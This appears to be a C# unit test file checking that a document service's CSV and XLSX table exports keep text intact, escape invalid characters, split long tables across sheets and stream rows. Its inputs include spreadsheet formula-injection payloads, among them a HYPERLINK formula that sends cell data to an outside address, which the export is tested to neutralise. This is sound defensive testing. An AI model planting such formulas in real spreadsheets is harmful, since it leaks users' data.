using System.IO.Compression;
using System.Text;
using System.Xml.Linq;
using DocGen.Service.Tables;
using DocGen.Testing;

namespace DocGen.Service.Tests.Tables;

/// <summary>What spreadsheets make of our tables.</summary>
public sealed class TablesTests
{
    private static readonly DateTime Time = new(2026, 11, 21, 8, 30, 2);

    private static readonly Column[] Columns = [new("number", "序号", 8), new("text", "文字", 40), new("state", "状态", 10)];

    private static readonly string[] Texts =
    [
        "买买提·吐尔逊", "𠮷田䶮", "a,b", "say \"yes\"", "two\nlines", " spaces ", "<b>&amp;</b>", "_x0041_ stays", "007", "1e5", "2026-11-21", "TRUE",
        "=1+1", "+86 991", "-5", "@SUM(A1)", "\t=1", "＝1+1", "  =1+1", "=HYPERLINK(\"http://192.0.2.1/?\"&A1)",
    ];

    [Fact]
    public async Task LibreOffice_reads_the_workbook_with_every_text_as_it_is_and_computes_nothing()
    {
        using var file = new TemporaryFile("table.xlsx", await XlsxAsync(Rows(Texts)));
        var csv = file.Beside("table.csv");
        Tools.Run("soffice", $"-env:UserInstallation=file://{file.Beside("profile")}", "--headless", "--norestore", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false", "--outdir", Path.GetDirectoryName(csv)!, file.Path);
        var read = ReadCsv(await File.ReadAllTextAsync(csv));
        Assert.Equal(["序号", "文字", "状态"], read[0]);
        Assert.Equal(Texts.Select((text, index) => (string[])[$"{index + 1}", text, "已生成"]), read[1..]);
    }

    [Fact]
    public async Task Another_reader_takes_the_CSV_apart_as_it_was_with_formulas_disarmed()
    {
        using var file = new TemporaryFile("table.csv", await CsvAsync(Rows(Texts)));
        var bytes = await File.ReadAllBytesAsync(file.Path);
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        var rows = System.Text.Json.JsonSerializer.Deserialize<string[][]>(Tools.RunClean(
            "/usr/bin/python3", "-c", "import csv, json, sys; print(json.dumps(list(csv.reader(open(sys.argv[1], encoding='utf-8-sig', newline=''), strict=True))))", file.Path))!;
        Assert.Equal(["number", "text", "state"], rows[0]);
        Assert.Equal(Texts.Select((text, index) => (string[])[$"{index + 1}", index < 12 ? text : "'" + text, "made"]), rows[1..]);
        Assert.DoesNotMatch("(?<!\r)\n(?!lines)", Encoding.UTF8.GetString(bytes));
    }

    [Fact]
    public async Task What_XML_or_a_cell_cannot_hold_is_said_otherwise()
    {
        var cells = await SheetAsync(["a\u0000b\u000Bc\rd", "half \uD800 pair", new string('长', 40_000), "\uFFFF", "", null!]);
        Assert.Equal(["a_x0000_b_x000B_c_x000D_d", "half \uFFFD pair", new string('长', 32_766) + "…", "_xFFFF_"], cells);
    }

    [Fact]
    public async Task A_table_longer_than_a_sheet_goes_on_in_another()
    {
        using var output = new MemoryStream();
        await XlsxTable.WriteAsync(TableOf(Rows([.. Enumerable.Range(1, 7).Select(number => $"row {number}")])), Time, sheetRows: 4, output, default);
        using var archive = new ZipArchive(output);
        Assert.Equal(["row 1,row 2,row 3", "row 4,row 5,row 6", "row 7"], Enumerable.Range(1, 3).Select(sheet => string.Join(',', SecondColumn(archive, sheet))));
        Assert.Null(archive.GetEntry("xl/worksheets/sheet4.xml"));
        // Exactly full sheets are followed by none.
        using var full = new MemoryStream();
        await XlsxTable.WriteAsync(TableOf(Rows(["1", "2", "3"])), Time, sheetRows: 4, full, default);
        using var one = new ZipArchive(full);
        Assert.Null(one.GetEntry("xl/worksheets/sheet2.xml"));
        using var none = new ZipArchive(new MemoryStream(await XlsxAsync(Rows([]))));
        Assert.Empty(SecondColumn(none, 1));
    }

    [Theory]
    [InlineData("csv")]
    [InlineData("xlsx")]
    public async Task A_hundred_thousand_rows_are_never_held_in_memory(string format)
    {
        var written = new List<WeakReference>();
        var held = 0;
        async IAsyncEnumerable<IReadOnlyList<Cell>> Many()
        {
            await Task.CompletedTask;
            for (var number = 1; number <= 100_000; number++)
            {
                if (number == 99_999)
                {
                    GC.Collect();
                    held = written.Count(text => text.IsAlive);
                }
                yield return Row(number, written);
            }
        }
        if (format == "csv") await CsvTable.WriteAsync(TableOf(Many()), Stream.Null, default);
        else await XlsxTable.WriteAsync(TableOf(Many()), Time, Stream.Null, default);
        // Of every tenth row; some may wait to be written.
        Assert.InRange(held, 0, 200);
    }

    /// <summary>Its own method, so that no variable of the test holds a row.</summary>
    private static IReadOnlyList<Cell> Row(int number, List<WeakReference> written)
    {
        var text = $"{number} 0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
        if (number % 10 == 0) written.Add(new(text));
        return [Cell.Of(number), Cell.Of(text), Cell.Of("made", "已生成")];
    }

    private static async IAsyncEnumerable<IReadOnlyList<Cell>> Rows(IEnumerable<string?> texts)
    {
        await Task.CompletedTask;
        foreach (var (text, index) in texts.Select((text, index) => (text, index))) yield return [Cell.Of(index + 1), Cell.Of(text), Cell.Of("made", "已生成")];
    }

    private static Table TableOf(IAsyncEnumerable<IReadOnlyList<Cell>> rows) => new("清单", Columns, rows);

    private static async Task<byte[]> XlsxAsync(IAsyncEnumerable<IReadOnlyList<Cell>> rows)
    {
        using var output = new MemoryStream();
        await XlsxTable.WriteAsync(TableOf(rows), Time, output, default);
        return output.ToArray();
    }

    private static async Task<byte[]> CsvAsync(IAsyncEnumerable<IReadOnlyList<Cell>> rows)
    {
        using var output = new MemoryStream();
        await CsvTable.WriteAsync(TableOf(rows), output, default);
        return output.ToArray();
    }

    private static async Task<IReadOnlyList<string>> SheetAsync(IEnumerable<string?> texts)
    {
        using var archive = new ZipArchive(new MemoryStream(await XlsxAsync(Rows(texts))));
        return SecondColumn(archive, 1);
    }

    /// <summary>Of the second column, without its heading.</summary>
    private static IReadOnlyList<string> SecondColumn(ZipArchive archive, int sheet)
    {
        using var part = archive.GetEntry($"xl/worksheets/sheet{sheet}.xml")!.Open();
        return [.. XDocument.Load(part).Descendants().Where(element => element.Name.LocalName == "c" && element.Attribute("r")!.Value.StartsWith('B')).Skip(1).Select(cell => cell.Value)];
    }

    private static List<string[]> ReadCsv(string csv)
    {
        using var file = new TemporaryFile("read.csv", Encoding.UTF8.GetBytes(csv));
        return System.Text.Json.JsonSerializer.Deserialize<List<string[]>>(Tools.RunClean(
            "/usr/bin/python3", "-c", "import csv, json, sys; print(json.dumps(list(csv.reader(open(sys.argv[1], encoding='utf-8-sig', newline='')))))", file.Path))!;
    }
}
